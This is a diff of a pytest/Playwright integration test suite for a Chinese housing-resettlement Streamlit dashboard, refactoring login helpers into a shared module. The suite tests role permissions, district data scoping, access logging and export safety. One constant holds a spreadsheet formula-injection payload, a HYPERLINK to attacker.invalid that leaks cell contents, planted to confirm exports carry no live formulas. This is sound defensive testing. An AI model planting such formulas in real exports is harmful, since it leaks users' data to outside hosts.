@@ -10,33 +10,13 @@ import openpyxl
 import psycopg
 import pytest
 
+from tests.browser.pages import OVERVIEW, log_in, open_page, settle, signed_in
+
 pytestmark = pytest.mark.integration
 
-PAGES = ("总览", "各区", "项目", "住户", "数据质量", "预警")
+PAGES = (OVERVIEW, "各区", "项目", "住户", "数据质量", "预警")
 DISTRICT_NAMES = ("泰山区", "兴安区", "向阳区", "工农区", "南山区", "兴山区")
 PLANTED = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"点此查看")'
-
-
-def settle(page) -> None:
-    """Wait until the Streamlit script has finished its run."""
-    page.wait_for_selector('[data-testid="stApp"][data-test-script-state="notRunning"]', timeout=30_000)
-    page.wait_for_timeout(300)
-    page.wait_for_selector('[data-testid="stApp"][data-test-script-state="notRunning"]', timeout=30_000)
-
-
-def log_in(browser, base: str, username: str, password: str):
-    page = browser.new_page(viewport={"width": 1400, "height": 1000}, locale="zh-CN", accept_downloads=True)
-    page.goto(base)
-    page.get_by_label("用户名").fill(username)
-    page.get_by_label("密码").fill(password)
-    page.get_by_role("button", name="登录").click()
-    return page
-
-
-def open_page(page, title: str) -> None:
-    page.locator('[data-testid="stSidebarNav"]').get_by_text(title, exact=True).click()
-    page.get_by_role("heading", name=title, exact=True).wait_for()
-    settle(page)
 
 
 def metrics(page) -> dict[str, str]:
@@ -72,30 +52,22 @@ def expected_figures(world, district: str | None) -> dict[str, str]:
 
 @pytest.mark.parametrize("username", ["leader", "office", "engineer", "district_taishan"])
 def test_each_role_opens_every_page_and_sees_the_marts_figures(world, dashboard, browser, artifacts, username):
-    _role, district, password = world.users[username]
-    page = log_in(browser, dashboard, username, password)
-    try:
-        page.get_by_role("heading", name="总览", exact=True).wait_for()
-        settle(page)
+    _role, district, _password = world.users[username]
+    with signed_in(browser, dashboard, world, username) as page:
         shown = metrics(page)
         for label, value in expected_figures(world, district).items():
             assert shown[label] == value, (label, shown)
         for title in PAGES:
-            if title != "总览":
+            if title != OVERVIEW:
                 open_page(page, title)
             assert page.locator('[data-testid="stException"]').count() == 0, page.locator(
                 '[data-testid="stException"]'
             ).all_inner_texts()
             page.screenshot(path=str(artifacts / f"{username}_{PAGES.index(title)}_{title}.png"), full_page=True)
-    finally:
-        page.close()
 
 
 def test_a_district_user_sees_only_its_district(world, dashboard, browser, artifacts):
-    page = log_in(browser, dashboard, "district_taishan", world.users["district_taishan"][2])
-    try:
-        page.get_by_role("heading", name="总览", exact=True).wait_for()
-        settle(page)
+    with signed_in(browser, dashboard, world, "district_taishan") as page:
         assert "数据范围：泰山区" in page.locator('[data-testid="stSidebar"]').inner_text()
         others = [name for name in DISTRICT_NAMES if name != "泰山区"]
         overview = grid_cells(page)
@@ -114,14 +86,10 @@ def test_a_district_user_sees_only_its_district(world, dashboard, browser, artif
         page.screenshot(path=str(artifacts / "district_taishan_household_list.png"), full_page=True)
         body = page.locator('[data-testid="stMain"]').inner_text()
         assert not [name for name in others if name in body]
-    finally:
-        page.close()
 
 
 def test_a_leader_gets_counts_but_no_household_list(world, dashboard, browser, artifacts):
-    page = log_in(browser, dashboard, "leader", world.users["leader"][2])
-    try:
-        page.get_by_role("heading", name="总览", exact=True).wait_for()
+    with signed_in(browser, dashboard, world, "leader") as page:
         open_page(page, "住户")
         assert page.get_by_text("您的角色无权查看住户名单").is_visible()
         assert page.get_by_text("显示名单（查看将记入访问日志）").count() == 0
@@ -133,14 +101,10 @@ def test_a_leader_gets_counts_but_no_household_list(world, dashboard, browser, a
                 (world.latest,),
             ).fetchone()[0]
         assert metrics(page)["未安置住户（纳入攻坚范围）"] == f"{unresettled:,}"
-    finally:
-        page.close()
 
 
 def test_viewing_the_household_list_is_logged_with_its_filter(world, dashboard, browser):
-    page = log_in(browser, dashboard, "office", world.users["office"][2])
-    try:
-        page.get_by_role("heading", name="总览", exact=True).wait_for()
+    with signed_in(browser, dashboard, world, "office") as page:
         with psycopg.connect(world.admin_url) as conn:
             before = conn.execute("select coalesce(max(log_id), 0) from access.access_log").fetchone()[0]
         open_page(page, "住户")
@@ -155,33 +119,23 @@ def test_viewing_the_household_list_is_logged_with_its_filter(world, dashboard, 
             ).fetchall()
         assert rows and rows[0][:3] == ("office", "office", "household_list")
         assert rows[0][3]["period"] == world.latest and rows[0][3]["unresettled_only"] is True
-    finally:
-        page.close()
 
 
 def test_an_export_opens_in_openpyxl_and_holds_no_live_formula(world, dashboard, browser, artifacts):
+    code = world.top_project("priority_score desc")
     with psycopg.connect(world.admin_url) as conn:
-        code = conn.execute(
-            "select project_code from marts.project_joint_review where period = %s"
-            " order by priority_score desc limit 1",
-            (world.latest,),
-        ).fetchone()[0]
         original = conn.execute(
             "update marts.project_joint_review set project_name = %s"
             " where period = %s and project_code = %s returning project_code",
             (PLANTED, world.latest, code),
         ).fetchone()
         assert original
-    page = log_in(browser, dashboard, "office", world.users["office"][2])
-    try:
-        page.get_by_role("heading", name="总览", exact=True).wait_for()
+    with signed_in(browser, dashboard, world, "office") as page:
         open_page(page, "项目")
         with page.expect_download() as download:
             page.get_by_role("button", name="导出 Excel").first.click()
         data = download.value.path().read_bytes()
         (artifacts / download.value.suggested_filename).write_bytes(data)
-    finally:
-        page.close()
     book = openpyxl.load_workbook(io.BytesIO(data))
     cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"]
@@ -210,10 +164,7 @@ def test_a_disabled_user_cannot_log_in(world, dashboard, browser):
 
 
 def test_the_overview_shows_the_change_from_last_month_and_the_district_map(world, dashboard, browser, artifacts):
-    page = log_in(browser, dashboard, "leader", world.users["leader"][2])
-    try:
-        page.get_by_role("heading", name="总览", exact=True).wait_for()
-        settle(page)
+    with signed_in(browser, dashboard, world, "leader") as page:
         with psycopg.connect(world.admin_url) as conn:
             now, then = (
                 conn.execute(
@@ -235,13 +186,11 @@ def test_the_overview_shows_the_change_from_last_month_and_the_district_map(worl
         assert page.locator('[data-testid="stVegaLiteChart"]').count() >= 3
         page.wait_for_timeout(500)
         page.screenshot(path=str(artifacts / "overview_deltas_and_district_map.png"), full_page=True)
-    finally:
-        page.close()
 
 
 @pytest.mark.parametrize("username", ["leader", "office", "district_taishan"])
 def test_certificate_and_petition_pages_show_what_the_role_may_see(world, dashboard, browser, artifacts, username):
-    _role, district, password = world.users[username]
+    _role, district, _password = world.users[username]
     with psycopg.connect(world.admin_url) as conn:
         scope = "(%s::text is null or district = %s)"
         ranked = conn.execute(
@@ -254,10 +203,7 @@ def test_certificate_and_petition_pages_show_what_the_role_may_see(world, dashbo
             (world.latest, district, district),
         ).fetchone()
     assert ranked > 0
-    page = log_in(browser, dashboard, username, password)
-    try:
-        page.get_by_role("heading", name="总览", exact=True).wait_for()
-        settle(page)
+    with signed_in(browser, dashboard, world, username) as page:
         for title in ("产权办理", "信访"):
             open_page(page, title)
             assert page.locator('[data-testid="stException"]').count() == 0
@@ -273,8 +219,6 @@ def test_certificate_and_petition_pages_show_what_the_role_may_see(world, dashbo
             else:
                 assert f"共 {escalated} 行" in body or (escalated == 0 and "暂无数据" in body)
                 assert ("未落实专人" in " ".join(grid_cells(page, 1))) == bool(lacking) or not escalated
-    finally:
-        page.close()
 
 
 def test_a_district_reads_its_own_files_problems_on_the_quality_page_and_no_one_elses(
@@ -295,10 +239,7 @@ def test_a_district_reads_its_own_files_problems_on_the_quality_page_and_no_one_
     district, message = row
     names = {s: src.name_zh for s, src in reference.sources().items()}
     others = {names[s] for s in senders if s != district}
-    page = log_in(browser, dashboard, f"district_{district}", world.users[f"district_{district}"][2])
-    try:
-        page.get_by_role("heading", name="总览", exact=True).wait_for()
-        settle(page)
+    with signed_in(browser, dashboard, world, f"district_{district}") as page:
         open_page(page, "数据质量")
         page.get_by_role("heading", name="文件问题明细（与回执一致）").wait_for()
         files, findings = grid_cells(page, -2), grid_cells(page, -1)
@@ -306,15 +247,8 @@ def test_a_district_reads_its_own_files_problems_on_the_quality_page_and_no_one_
         assert any(message[:12] in cell for cell in findings), (message, findings)
         assert not others & set(files) and not others & set(findings)
         page.screenshot(path=str(artifacts / f"district_{district}_quality.png"), full_page=True)
-    finally:
-        page.close()
 
-    page = log_in(browser, dashboard, "leader", world.users["leader"][2])
-    try:
-        page.get_by_role("heading", name="总览", exact=True).wait_for()
-        settle(page)
+    with signed_in(browser, dashboard, world, "leader") as page:
         open_page(page, "数据质量")
         assert page.get_by_role("heading", name="文件问题明细（与回执一致）").count() == 0
         assert "仅领导小组办公室、区、数据工程师可见" in page.locator('[data-testid="stMain"]').inner_text()
-    finally:
-        page.close()
